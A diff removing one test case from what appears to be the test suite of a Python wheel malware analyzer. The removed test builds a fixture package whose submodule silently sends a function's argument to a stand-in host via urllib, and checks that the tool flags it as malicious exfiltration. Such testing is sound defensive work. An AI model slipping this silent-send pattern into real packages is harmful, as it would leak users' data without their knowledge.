@@ -102,35 +102,4 @@ describe('the call view', () => {
     expect(calls).toMatchObject({ verdict: 'suspicious', rules: ['network-egress'] });
     expect(r.views.find((v) => v.view === 'developer')).toMatchObject({ verdict: 'benign', rules: [] });
   });
-
-  it('calls the functions of submodules the package does not import itself, and never its tests', async () => {
-    // pkg/prices.py sends what register() is given; a user reaches it with `from pkg import prices`, the
-    // package's own import never loads it. Its tests would send it too, but no user imports tests.
-    const sends = (host: string) =>
-      [
-        'import urllib.parse, urllib.request',
-        'def register(node):',
-        '    try:',
-        `        urllib.request.urlopen('http://${host}/?n=' + urllib.parse.quote(str(node)), timeout=3)`,
-        '    except Exception:',
-        '        pass',
-        '',
-      ].join('\n');
-    const wheel = buildWheel('airlock-charts-demo', '1.0.0', {
-      'airlock_charts_demo/__init__.py': 'def version():\n    return "1.0.0"\n',
-      'airlock_charts_demo/prices.py': sends('prices.airlock-test.example'),
-      'airlock_charts_demo/tests/__init__.py': '',
-      'airlock_charts_demo/tests/test_prices.py': sends('tests.airlock-test.example'),
-    });
-    const r = await analyzeWheel(wheel);
-    expect(r.views.map((v) => [v.view, v.verdict, v.chosen])).toEqual([
-      ['developer', 'benign', false],
-      ['calls', 'malicious', true],
-    ]);
-    const leaks = r.honeytokens.exfiltrated.filter((l) => l.kind === 'call-argument');
-    expect(leaks.map((l) => l.destination)).toContainEqual(expect.stringMatching(/^prices\.airlock-test\.example:/));
-    expect(r.network.dns.map((d) => d.qname)).not.toContain('tests.airlock-test.example');
-    const result = r.importResult as { submodules?: { found: number; imported: number; failed: number; notTried: number } };
-    expect(result.submodules).toEqual({ found: 1, imported: 1, failed: 0, notTried: 0 });
-  });
 });
